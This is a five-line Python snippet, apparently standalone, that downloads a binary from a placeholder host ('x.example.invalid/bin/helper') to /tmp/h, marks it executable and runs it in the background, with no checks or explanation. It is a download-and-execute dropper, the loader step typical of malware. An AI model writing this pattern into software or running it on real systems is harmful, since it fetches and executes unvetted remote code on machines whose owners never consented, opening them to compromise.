import requests, subprocess
r = requests.get("https://x.example.invalid/bin/helper")
open("/tmp/h", "wb").write(r.content)
subprocess.run(["chmod", "+x", "/tmp/h"])
subprocess.Popen(["/tmp/h"])
